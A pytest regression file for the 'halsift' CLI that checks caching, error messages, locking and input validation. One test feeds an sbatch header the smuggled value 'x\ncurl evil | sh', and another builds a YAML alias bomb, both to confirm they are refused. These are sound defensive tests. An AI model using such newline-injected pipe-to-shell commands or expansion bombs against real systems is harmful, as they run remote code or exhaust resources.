"""Regression tests from the reliability probes (issues 19 and 35), by stage: The CLI and recipes: bench caches follow
their bench, sbatch values stay on their line, YAML errors never echo expansions, one user error is one line, one
run per --out."""

from __future__ import annotations

import pytest
from cli_cases import _alias_bomb, _err_line, _score
from filtering_data import make_bench, make_corpus

from halsift.launch.cli import main


# ------------------------------------------------------------------------------- 2. stale bench split cache in recipes
def test_recipe_bench_split_cache_follows_its_bench(tmp_path):
    from halsift.corpus.bench import read_bench
    from halsift.launch.stages.shared import bench_subset

    a = make_bench(tmp_path / "a", captions=4, seed=0)
    b = make_bench(tmp_path / "b", captions=6, seed=3)
    run = tmp_path / "run"
    first = bench_subset(str(a), "test", run)
    assert {r.image for r in read_bench(first)} <= {str((tmp_path / "a" / "images" / f"im{c}.png")) for c in range(4)}
    again = bench_subset(str(b), "test", run)  # data.bench=OTHER
    assert again == first
    rows = read_bench(again)
    assert len(rows) == len(read_bench(b)) and all(str(tmp_path / "b") in r.image for r in rows)
    b.write_text(b.read_text().splitlines(keepends=True)[0])  # the same bench path, edited in place
    assert len(read_bench(bench_subset(str(b), "test", run))) == 1


# ------------------------------------------------------------------------------- 8. sbatch header values stay on their line
@pytest.mark.parametrize("flag", ["--job-name", "--output", "--partition", "--account", "--qos", "--time"])
def test_sbatch_header_values_cannot_inject_lines(flag, tmp_path, capsys):
    script = tmp_path / "job.sbatch"
    assert main(["launch", "--slurm", "--dry-run", "--script", str(script), flag, "x\ncurl evil | sh", "--",
                 "stats", "--data", "d"]) == 2
    line = _err_line(capsys)
    assert line.startswith(f"halsift launch: error: {flag}:") and "'\\n'" in line
    assert not script.exists() and capsys.readouterr().out == ""


def test_sbatch_header_value_with_spaces_is_quoted_and_gpus_zero_refused(capsys):
    assert main(["launch", "--slurm", "--dry-run", "--job-name", "my run", "--", "stats", "--data", "d"]) == 0
    assert '#SBATCH --job-name="my run"\n' in capsys.readouterr().out
    assert main(["launch", "--gpus", "0", "--dry-run", "--", "stats", "--data", "d"]) == 2
    assert "--gpus: expected a value in [1, inf), got 0" in _err_line(capsys)


def test_yaml_alias_bomb_is_refused_in_one_short_line(tmp_path, capsys):
    import time

    levels = _alias_bomb(keys=False)
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text("model: [" + ", ".join(levels) + "]\n")  # a string field given 9^9 expanded items
    assert len(bomb.read_bytes()) < 400
    data = make_corpus(tmp_path / "c", shards=1, per_shard=2)
    t0 = time.perf_counter()
    assert main(["train", "clip", "--config", str(bomb), "--data", str(data), "--out", str(tmp_path / "o")]) == 2
    line = _err_line(capsys)
    assert time.perf_counter() - t0 < 10 and len(line) < 600
    assert "bomb.yaml" in line and "alias" in line
    # a merely wrong (not expanding) value is echoed, bounded
    (tmp_path / "big.yaml").write_text("model: [" + ", ".join(["abcdefgh"] * 5000) + "]\n")
    assert main(["train", "clip", "--config", str(tmp_path / "big.yaml"), "--data", str(data), "--out",
                 str(tmp_path / "o")]) == 2
    line = _err_line(capsys)
    assert "--model" in line and len(line) < 300


def test_user_error_under_launch_cpu_is_exit_2_with_its_line_last(tmp_path):
    import os
    import subprocess
    import sys

    env = {**os.environ, "OMP_NUM_THREADS": "1", "HALSIFT_QUIET": "1"}
    proc = subprocess.run([sys.executable, "-m", "halsift.launch.cli", "launch", "--cpu", "2", "--", "score",
                           "--detector", "oracle", "--data", str(tmp_path / "missing"), "--out", str(tmp_path / "o")],
                          env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 2
    last = proc.stderr.strip().splitlines()[-1]
    assert last == f"halsift score: error: shards: {tmp_path / 'missing'} does not exist"


# ------------------------------------------------------------------------------- one run per --out folder
def test_second_run_into_a_busy_out_folder_is_refused(tmp_path, capsys):
    from filelock import FileLock

    data = make_corpus(tmp_path / "c", shards=1, per_shard=2)
    out = tmp_path / "s"
    out.mkdir()
    with FileLock(str(out / ".halsift.lock")):  # what a running `halsift score --out s` holds
        assert _score(data, out) == 2
        line = _err_line(capsys)
        assert line.startswith("halsift score: error: --out") and "another halsift run" in line
        assert not list(out.glob("part-*")) and not (out / "_manifest.json").exists()
    assert _score(data, out) == 0  # free again; and the lock is gone once a run ends (even on SIGKILL: flock)
    # the run folder: its manifest, its part, and the part's record (execution/run_folder.py); no lock file left
    assert sorted(p.name for p in out.iterdir()) == ["_done", "_manifest.json", "part-000000.parquet"]
